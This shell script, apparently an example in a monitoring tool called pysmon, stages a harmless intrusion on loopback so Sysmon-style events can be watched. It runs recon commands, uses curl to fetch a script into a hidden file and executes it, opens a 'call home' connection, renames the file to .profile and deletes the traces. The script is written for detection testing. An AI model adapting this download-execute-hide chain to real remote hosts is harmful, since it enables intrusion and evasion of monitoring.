#!/bin/sh
# A harmless intrusion, staged for a look at what pysmon sees:
#     make run CMD="sh examples/intrusion.sh"
# It downloads a program from a web server of its own on this machine, runs it, and removes the traces. Nothing leaves
# the machine (loopback only), nothing stays behind. The numbers are those of Sysmon's events. Besides what is noted,
# every command below is a ProcessCreate (1) and, when it ends, a ProcessTerminate (5).
set -eu
PATH=/usr/bin:/bin:/usr/local/bin
export PATH

stage=$(mktemp -d)
server=
finish() {
    [ -z "$server" ] || kill "$server" || :
    rm -rf "$stage"
}
trap finish EXIT
mkdir "$stage/web" "$stage/home"

# The attacker's machine: a web server with one file. It takes a free port, tells us which, and ends after two visits.
printf '#!/bin/sh\necho "update: running as $(id -un)"\n' >"$stage/web/update.sh"
cat >"$stage/server.py" <<'SERVER'
import functools, http.server, sys
handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=sys.argv[1])
server = http.server.HTTPServer(("127.0.0.1", 0), handler)
print(server.server_port, flush=True)
for _ in range(2):
    server.handle_request()
SERVER
mkfifo "$stage/port"
python3 "$stage/server.py" "$stage/web" >"$stage/port" 2>"$stage/log" &
server=$!
read -r port <"$stage/port" || { cat "$stage/log" >&2; exit 1; }

# A look around: who am I, what is this machine?
id >/dev/null
uname -a >/dev/null

# A name is looked up (in /etc/hosts: no packet leaves the machine).
getent ahostsv4 localhost >/dev/null || :

# The download. NetworkConnect (3), by the one who asks and by the one who answers; FileCreate (11) of the program.
url=http://127.0.0.1:$port/update.sh
if command -v curl >/dev/null; then
    curl -s -o "$stage/home/.update" "$url"
else
    python3 -c 'import sys, urllib.request; urllib.request.urlretrieve(*sys.argv[1:])' "$url" "$stage/home/.update"
fi

# The hidden file is made executable and run: ProcessCreate (1) of it, and of what it starts, with their parents.
chmod +x "$stage/home/.update"
"$stage/home/.update"

# It calls home: NetworkConnect (3) again.
python3 -c 'import socket, sys; socket.create_connection(("127.0.0.1", int(sys.argv[1]))).close()' "$port"

# It stays, under an innocent name: FileCreate (11), by the rename.
mv "$stage/home/.update" "$stage/home/.profile"

# The traces go: FileDelete (23).
rm "$stage/home/.profile"

wait "$server"
server=
